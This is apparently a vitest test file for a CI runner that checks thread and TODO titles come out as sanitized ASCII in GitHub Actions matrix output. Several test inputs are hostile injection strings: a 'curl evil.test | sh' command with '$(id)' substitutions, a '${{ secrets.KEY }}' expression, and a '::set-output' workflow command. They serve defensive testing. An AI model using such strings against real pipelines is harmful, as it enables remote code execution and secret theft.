import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect } from "vitest";
import { readPairs } from "../../../src/rehearsal/runner/step.ts";
import { writeOutputs } from "../../../src/runner/file-commands.ts";
import { ListItem, matrixOf, namedItem, parseItem, threadItem } from "../../../src/runner/input/list-query.ts";
import { test } from "../../core/workspace/temp-folder.ts";

/** What the next job would get. */
function written(folder: string, matrix: string): string | undefined {
  const GITHUB_OUTPUT = join(folder, "output");
  writeOutputs({ GITHUB_OUTPUT }, { matrix });
  return readPairs(readFileSync(GITHUB_OUTPUT, "utf8")).pairs.matrix;
}

const titles = [
  "A slug may end in a hyphen",
  `'; curl evil.test | sh; $(id) \`id\` "quoted" \\ <b>&</b>`,
  "$\u007b{ secrets.KEY }} ::set-output name=ok::true",
  "Träume 🎉 \ud800 \u202e\u2028",
];

test.for(titles)("the title %j comes through in ASCII, with no sign of a shell", (title, { folder }) => {
  const item = threadItem(7, title, false);
  const text = written(folder, matrixOf([item])) ?? "";
  expect(JSON.parse(text)).toEqual({ include: [item] });
  expect(text).not.toMatch(/[^ -~]|['$`;|&<>()]/);
  expect(parseItem(JSON.stringify(item))).toEqual(item);
});

test("nothing is a matrix too, and a title is cut at 100 characters", ({ folder }) => {
  expect(written(folder, matrixOf([]))).toBe('{"include":[]}');
  expect(threadItem(1, "x".repeat(300), true)).toMatchObject({
    title: expect.stringMatching(/^x{99}…$/),
    key: "pull-request-1",
  });
});

test.for(["", "[]", '{"include":[]}\nok=true', `{"include":["'"]}`, '{"include":["$(id)"]}', '{"include":["ä"]}'])(
  "%j is not written as a matrix",
  (text, { folder }) => {
    expect(written(folder, text)).toBe("");
  },
);

test("keys tell items apart, and stay when a line moves", () => {
  const todo = (path: string, line: number, text: string) =>
    namedItem({ item: `${path}:${line}`, kind: "todo", path, title: text, sameness: `${path}\0${text}` });
  const key = todo("src/a.b.ts", 3, "TODO fix").key;
  expect(key).toMatch(/^todo-src-a-b-ts-[0-9a-f]{8}$/);
  expect(todo("src/a.b.ts", 9, "TODO fix").key).toBe(key);
  expect(todo("src/a-b.ts", 3, "TODO fix").key).not.toBe(key);
  expect(ListItem.safeParse(todo("ä".repeat(299), 3, "TODO")).success).toBe(true);
});

test("an item is an element of a matrix, or a name", () => {
  expect(parseItem("docs/tides.md")).toMatchObject({ item: "docs/tides.md", kind: "other", title: "docs/tides.md" });
  for (const text of ["{", '{"item":"a"}', '{"item":"a","kind":"file","title":"a","key":"../x"}', "x".repeat(401)]) {
    expect(parseItem(text)).toBeUndefined();
  }
});
